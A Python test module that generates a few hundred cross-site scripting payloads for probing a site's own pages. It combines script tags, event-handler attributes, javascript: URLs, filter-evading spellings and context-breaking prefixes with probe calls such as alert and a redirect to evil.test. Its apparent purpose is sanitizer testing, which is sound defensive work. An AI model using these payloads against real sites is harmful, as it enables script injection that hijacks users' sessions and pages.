"""Attempts to run a script in our pages: patterns times ways to call it, a few hundred."""

from __future__ import annotations

from itertools import product

CALLS = (
    "alert('RAN')",
    "console.log('RAN')",
    "top.location='https://evil.test/?RAN'",
    "confirm`RAN`",
)
ELEMENTS = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT>",
    "<script\n>{}</script\t>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<img src=x onerror={}>",
    '<img src="x" onerror="{}">',
    "<img/src=x/onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><mtext><style><img src=x onerror={}></style></mtext></math>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<marquee onstart={}>",
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    '<iframe src="javascript:{}"></iframe>',
    '<object data="javascript:{}"></object>',
    '<embed src="javascript:{}">',
    '<a href="javascript:{}" autofocus>x</a>',
    '<form action="javascript:{}"><button autofocus>x</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:{}">',
    '<link rel="stylesheet" href="javascript:{}">',
    '<base href="javascript:{}//">',
    "<style>@import 'javascript:{}';</style>",
    "<template><script>{}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    "<textarea><img src=x onerror={}></textarea>",
    "<xmp><img src=x onerror={}></xmp>",
    "<!--><img src=x onerror={}>-->",
    "<![CDATA[><img src=x onerror={}>]]>",
    "<x onclick={} onmouseover={} tabindex=1 id=x>x</x>",
)
BREAKS = (
    "{}",
    '">{}',
    "'>{}",
    "</title>{}",
    "</textarea></style></script>{}",
    '" autofocus onfocus="{}" x="',
)


def payloads() -> list[str]:
    """Every element with the first way of calling, behind every break; the other ways behind none."""
    made = [each.replace("{}", CALLS[0]) for each in ELEMENTS]
    broken = [end.replace("{}", each) for end, each in product(BREAKS, made)]
    others = [each.replace("{}", call) for each, call in product(ELEMENTS, CALLS[1:])]
    return list(dict.fromkeys([*broken, *others]))
